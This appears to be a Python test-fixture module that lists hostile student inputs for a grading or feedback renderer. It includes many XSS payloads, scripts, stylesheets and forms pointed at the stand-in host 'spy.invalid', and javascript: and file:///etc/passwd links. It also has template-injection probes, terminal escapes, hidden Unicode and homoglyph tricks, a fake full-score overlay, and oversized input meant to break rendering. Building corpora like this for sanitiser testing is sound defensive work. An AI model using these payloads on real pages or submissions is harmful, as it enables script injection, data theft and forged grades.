"""What students could write to make a page do something, look like something else, or fall apart."""

from __future__ import annotations

RUN = "window.__pwned=1"
SPY = "http://spy.invalid/x"

HTML = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={SPY}></sCrIpT>",
    f"<img src={SPY} onerror={RUN}>",
    f"<svg onload={RUN}><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<style>@import url({SPY}); *{{position:fixed; inset:0}}</style>",
    f"<link rel=stylesheet href={SPY}><base href={SPY}>",
    f"<meta http-equiv=refresh content='0;url={SPY}'>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<object data={SPY}></object><embed src={SPY}>",
    f"<form action={SPY}><input autofocus onfocus={RUN}><button>Submit</button></form>",
    f"<details open ontoggle={RUN}><video><source onerror={RUN}></video></details>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:red'>100 of 100 points</div>",
    f"</title></style></pre></textarea></script><script>{RUN}</script>",
    f"'\"><img src=x onerror={RUN}> ' onmouseover='{RUN}' x=\" onfocus={RUN} autofocus tabindex=1 \"",
    f"<!-- --!> <x onclick={RUN}> ]]> <![CDATA[ <y>",
    "{{7*7}} {% if 1 %} {{ config }} ${7*7} #{7*7} <%= 7*7 %>",
    "\x1b[2J\x1b[31mred\x1b]8;;http://spy.invalid\x07link\x1b]8;;\x07 \x9b31m",
    "&lt;script&gt; &#60;script&#62; &amp; %3Cscript%3E \\u003cscript\\u003e",
)
MARKDOWN = (
    f"[click](javascript:{RUN})",
    f"[click](  JaVaScRiPt:{RUN} 'title')",
    f"<javascript:{RUN}>",
    f"[click][r]\n\n[r]: javascript:{RUN}",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](&#x6a;avascript&colon;{RUN})",
    f"![alt]({SPY}.png) ![alt](data:image/svg+xml,%3Csvg%20onload={RUN}%3E)",
    f"[![alt]({SPY}.png)](javascript:{RUN})",
    "[up](#q1) [file](file:///etc/passwd) [blob](blob:x) [relative](../../other/feedback.html)",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\style{{position:fixed}}{{x}}$ $\\class{{score}}{{x}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$ $\\unicode{{60}}$script$\\unicode{{62}}$",
    "$$\\rule{9000em}{9000em}$$ $\\hspace{-90em}x$ $\\raise 90em {100 points}$",
    "$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "$",
    "$" + "x" * 3000 + "$",
    "> " * 200 + "deep",
    "| a | b |\n|---|---|\n| <script> | " + "wide" * 300 + " |",
    f"```html\n<script>{RUN}</script>\n```",
)
UNSEEN = (
    "if x: # \u202e } \u2066is ok\u2069 \u2066 // admin\u202c",
    "a\u200eb\u200fc\u061cd\u200be\u2060f\ufeffg\u00adh\u2028i\u2029j",
    "tag \U000e0068\U000e0069 end",
    "z\u0300" + "\u0301\u0316" * 60 + " a" + "\u20dd" * 40 + " ส" + "็" * 80,
    "раураl раssеd",
)
LONG = ("x" * 600, "/".join(["path"] * 90), "一" * 200, "=" * 300)
